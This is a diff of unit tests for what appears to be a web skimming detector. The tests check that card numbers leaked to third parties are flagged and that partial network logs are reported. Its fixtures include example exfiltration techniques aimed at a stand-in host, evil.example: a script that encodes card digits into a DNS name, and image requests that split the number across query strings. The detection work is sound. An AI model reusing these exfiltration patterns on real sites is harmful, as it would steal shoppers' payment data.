@@ -218,3 +218,47 @@ test('a flood beyond what a visit is searched for is said, and hides neither wha
   ]);
   expect(findings(facts).at(-1)?.code).toBe('search-limit');
 });
+
+describe('what no single request shows', () => {
+  const digitsOf = (at: number) => canary.number.slice(at * 4, at * 4 + 4);
+
+  test('a name that was looked up carries the number: its parent is the destination, the naming script the sender', () => {
+    const naming = script(`${SHOP}/app.js`, "link.href='//'+n+'.t.evil.example'");
+    const names = [
+      { name: `n${canary.number}.t.evil.example`, step: 3 },
+      { name: 'fonts.example', step: 0 },
+      { name: 'shop.example', step: 0 },
+    ];
+    const facts = { ...visit([request({ url: SHOP, body: undefined })], [naming]), names };
+    const { findings: found, destinations } = finish(judgeVisit(facts, site, canary));
+    expect(found).toMatchObject([
+      {
+        kind: 'card-data-sent-elsewhere',
+        destination: '*.evil.example',
+        channel: 'name',
+        sender: { kind: 'script', by: 'mention', url: naming.url },
+      },
+    ]);
+    expect(JSON.stringify({ found: found.map(({ key }) => key), destinations })).not.toContain(canary.number);
+    expect(destinations.find(({ host }) => host === 'fonts.example')).toMatchObject({ kinds: ['name'], requests: 1 });
+  });
+
+  test('cut over requests: one finding, and each of them is withheld', () => {
+    const requests = [2, 0, 3, 1].map((at) =>
+      request({ url: `https://evil.example/p?d=${digitsOf(at)}`, kind: 'image', body: undefined }),
+    );
+    const judged = finish(judgeVisit(visit(requests), site, canary));
+    expect(judged.findings).toMatchObject([{ destination: 'evil.example', channel: 'query', encoding: ['split'] }]);
+    expect(judged.fragments.size).toBe(4);
+  });
+
+  test('the provider may get it in pieces, as one frame for each field does', () => {
+    const requests = [0, 1, 2, 3].map((at) => request({ url: 'https://pay.example/t', body: bytes(digitsOf(at)) }));
+    expect(findings(visit(requests))).toEqual([]);
+  });
+
+  test('a record of the network that is not whole is no clean visit', () => {
+    expect(findings({ ...visit([]), logCut: true })).toMatchObject([{ kind: 'visit-incomplete', code: 'log-cut' }]);
+    expect(findings({ ...visit([]), logCut: false })).toEqual([]);
+  });
+});
